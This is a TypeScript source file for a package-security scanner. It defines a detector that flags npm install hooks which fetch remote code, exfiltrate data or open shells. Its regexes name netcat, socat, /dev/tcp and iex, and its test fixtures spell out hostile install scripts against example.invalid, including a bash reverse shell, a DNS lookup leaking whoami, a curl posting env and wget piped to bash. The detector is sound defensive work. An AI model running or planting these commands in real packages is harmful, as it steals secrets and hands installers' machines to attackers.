import { readCommand } from "../behaviour/commands.ts";
import type { Detector } from "../detector.ts";
import { installHooks, lineOf } from "./_npm.ts";
import { sight } from "./_sight.ts";

/** Something is done with what was fetched: piped on, made executable, started. */
const RUNS =
  /\|[ \t]{0,4}(?:sudo[ \t]{1,4})?(?:(?:ba|z|da)?sh|node|python3?|perl|iex|invoke-expression)\b|(?:&&|;)[ \t]{0,4}(?:chmod|(?:ba|z)?sh|node|python3?|start|\.\/|\/tmp\/)|start-process|iex\b|invoke-expression|mshta/i;

/** What a server gives is run or installed, or a shell is handed to it. */
const REACHES =
  /\/dev\/(?:tcp|udp)\/|\|[ \t]{0,4}(?:nc|ncat|netcat|telnet|socat)\b|\b(?:nc|ncat)[ \t]{1,4}-\w{0,4}e\b|\b(?:npx|bunx|pnpx|(?:npm|pnpm|yarn|bun)[ \t]{1,4}(?:i|install|add|exec|dlx|x))[ \t](?:[^;&|\n]{0,80}[ \t])?["']?(?:git\+)?https?:|\bdeno[ \t]{1,4}run[ \t][^;&|\n]{0,80}https?:|\bgit[ \t]{1,4}clone[ \t][^;&|\n]{0,200}(?:&&|;)[ \t]{0,4}(?:(?:ba|z)?sh|node|python3?|cd)\b/i;
const SHELLS = new Set(["shell", "batch", "powershell"]);
/** Lines of a script that are looked at. */
const MOST_LINES = 5_000;
const LONGEST_LINE = 4_000;

export const installHookFetches: Detector = {
  id: "install-hook-fetches",
  title: "An install script fetches or sends something with a shell command",
  severity: "critical",
  ecosystems: ["npm"],
  points: 6.5,
  class: "threat",
  group: "install-hook",
  why: `A \`preinstall\`, \`install\` or \`postinstall\` script in package.json calls curl, wget, PowerShell or a name server directly. What it
fetches is not in the release and can change at any moment; what it sends leaves before anybody has used the package.

Packages that need a native program fetch it with a script of their own, which checks what it gets. A command that only fetches
counts for less than one that also runs what it fetched.`,
  *detect(tree) {
    for (const file of tree.files) {
      if (file.phase !== "install" || !SHELLS.has(file.kind) || tree.form !== "npm") continue;
      const line = firstSending(file.text);
      if (line !== undefined)
        yield sight(file, line.at, `installing runs \`${line.text.slice(0, 200)}\``, { share: 0.8 });
    }
    for (const { path, name, command } of installHooks(tree)) {
      const { fetches, sends } = readCommand(command);
      const reaches = REACHES.test(command);
      if (!fetches && !sends && !reaches) continue;
      const share = sends || reaches || RUNS.test(command) ? 1 : 0.65;
      const says = `${name} runs \`${command.slice(0, 200)}\``;
      yield { path, line: lineOf(tree, path, command), says, phase: "install", share };
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "npm",
        files: { "package.json": `{"scripts":{"postinstall":"curl -s http://example.invalid/x | sh"}}` },
      },
      {
        ecosystem: "npm",
        files: { "package.json": `{"scripts":{"preinstall":"nslookup $(whoami).example.invalid"}}` },
      },
    ],
    passes: [
      {
        ecosystem: "npm",
        files: {
          "package.json": `{"scripts":{"install":"sh ./build.sh"}}`,
          "build.sh": "#!/bin/sh\n# curl -d x https://example.invalid\nmake && cp a build/\n",
        },
      },
      { ecosystem: "npm", files: { "package.json": `{"scripts":{"install":"node-gyp rebuild"}}` } },
      { ecosystem: "npm", files: { "package.json": `{"scripts":{"postinstall":"node install.js","test":"curl x"}}` } },
      {
        ecosystem: "npm",
        files: { "package.json": `{"scripts":{"postinstall":"opencollective-postinstall || exit 0"}}` },
      },
    ],
    evasions: [
      {
        ecosystem: "npm",
        files: { "package.json": `{"scripts":{"preinstall":"bash -i >& /dev/tcp/example.invalid/4444 0>&1"}}` },
      },
      {
        ecosystem: "npm",
        files: { "package.json": `{"scripts":{"postinstall":"npx -y https://example.invalid/x.tgz"}}` },
      },
      {
        ecosystem: "npm",
        files: {
          "package.json": `{"scripts":{"preinstall":"sh ./setup.sh"}}`,
          "setup.sh": '#!/bin/sh\ncurl -d "$(env)" https://example.invalid/c\n',
        },
      },
      {
        ecosystem: "npm",
        files: {
          "package.json": `{"scripts":{"install":"powershell -c iwr http://example.invalid/x -OutFile x.exe; start x.exe"}}`,
        },
      },
      {
        ecosystem: "npm",
        files: {
          "package.json": `{"bundleDependencies":["a"]}`,
          "node_modules/a/package.json": `{"scripts":{"postinstall":"wget -qO- http://example.invalid | bash"}}`,
        },
      },
    ],
  },
};

/** The first line that sends something or hands a shell to a server, and no comment. */
function firstSending(text: string): { readonly at: number; readonly text: string } | undefined {
  let at = 0;
  for (const line of text.split("\n", MOST_LINES)) {
    const command = line.slice(0, LONGEST_LINE);
    if (!/^\s{0,40}(?:#|::|rem\b)/i.test(command) && (readCommand(command).sends || REACHES.test(command)))
      return { at, text: command.trim() };
    at += line.length + 1;
  }
  return undefined;
}
